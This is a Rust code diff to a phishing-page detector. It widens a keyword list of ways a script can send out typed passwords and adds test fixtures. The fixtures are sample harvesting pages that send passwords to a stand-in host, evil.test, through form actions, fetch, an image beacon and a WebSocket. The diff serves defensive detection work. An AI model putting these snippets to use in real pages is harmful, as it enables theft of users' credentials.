@@ -24,8 +24,22 @@ fn check(tree: &Tree, hit: &mut Check) {
 }
 
 /// Ways in which a script sends what was typed.
-const SENDING: &[&str] =
-    &["$.ajax", "$.post", "fetch(", "xmlhttprequest", "axios", "sendbeacon", "api.telegram.org", "emailjs"];
+const SENDING: &[&str] = &[
+    "$.ajax",
+    "$.post",
+    "fetch(",
+    "xmlhttprequest",
+    "axios",
+    "sendbeacon",
+    "api.telegram.org",
+    "emailjs",
+    "new websocket",
+    ".action=",
+    ".action =",
+];
+
+/// A picture whose address carries what was typed. Counters of visits load pictures too, and carry nothing typed.
+const PICTURE: &str = "new image";
 
 fn sends_away(page: &Bundle) -> Option<String> {
     let mut forms = page.leads("form-password").peekable();
@@ -36,7 +50,8 @@ fn sends_away(page: &Bundle) -> Option<String> {
         return Some(target.to_string());
     }
     let code = page.code();
-    let sends = SENDING.iter().find(|word| code.contains(**word));
+    let is_sent = |word: &&&str| code.contains(**word) && (**word != PICTURE || code.contains(".value"));
+    let sends = SENDING.iter().chain([&PICTURE]).find(is_sent);
     let by_script =
         || page.leads("form-password").any(str::is_empty) && (code.contains("://") || code.contains("atob"));
     let sends = sends.filter(|_| by_script()).map(|word| (*word).to_string());
@@ -56,6 +71,12 @@ mod tests {
             "<html><img src='https://logo.office.example/l.png'><form method=post action='https://evil.test/n.php'><input type=password></form>",
             "<html><input type='password'><script>$.ajax({url: atob('aHR0cHM6Ly9hLnRlc3Q=')});</script>",
             "<form action='https://evil.test/p'><input name=passwd type=text></form>",
+            "<form><input type=password><button formaction='https://evil.test/p'>Sign in</button></form>",
+            "<form action='https://evil.test/p'><input name=u style='-webkit-text-security: disc'></form>",
+            "<html><form id=f><input type=password></form><script>f.action = atob('aHR0cHM6Ly9hLnRlc3Q=');</script>",
+            "<html><div contenteditable style='-webkit-text-security:disc'></div><script>fetch('https://evil.test/' + p)</script>",
+            "<html><input type=password id=p><script>new Image().src = 'https://evil.test/l?' + p.value</script>",
+            "<html><input type=password id=p><script>w = new WebSocket('wss://evil.test/'); w.send(p.value)</script>",
         ] {
             assert_eq!(hits(&RULE, "a.html", page.as_bytes()).len(), 1, "{page}");
         }
@@ -66,6 +87,8 @@ mod tests {
         for page in [
             "<html><a href='https://www.shop.example/'>x</a><form action='https://login.shop.example/'><input type=password></form>",
             "<html><form action='/login'><input type=password></form>",
+            "<html><input type=password><script>new Image().src = 'https://count.test/c.gif';</script>",
+            "<html><form><input name=q style='-webkit-text-security: none'><button formaction='https://a.test/'></form>",
             "<html><form action='https://a.example/search'><input name=q></form>",
             "<html><form action='https://a.example/x'><input type=hidden name=password></form>",
         ] {
